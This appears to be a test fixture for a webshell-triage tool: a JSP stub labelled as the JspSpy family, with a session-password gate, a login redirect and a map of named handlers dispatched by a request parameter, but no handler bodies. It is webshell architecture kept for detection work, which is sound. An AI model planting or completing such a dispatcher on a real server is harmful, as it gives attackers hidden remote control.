<%-- triage-expect: triage_jsp_jspspy_family --%>
<%@ page import="java.util.*" %>
<%!
    // the shape of the JspSpy family: named handlers behind a session password
    private static final String PW_SESSION_ATTRIBUTE = "placeholderPwd";
    private static final String SHELL_ONLINE = "SHELL_ONLINE";
    public static Map<String, Invoker> ins = new HashMap<String, Invoker>();
    private static interface Invoker {
        public void invoke(HttpServletRequest request, HttpServletResponse response, HttpSession s) throws Exception;
    }
%>
<%
    String o = request.getParameter("o");
    if (session.getAttribute(PW_SESSION_ATTRIBUTE) == null && !"vLogin".equals(o)) {
        response.sendRedirect("?o=vLogin");
        return;
    }
    ins.get(o).invoke(request, response, session);
%>
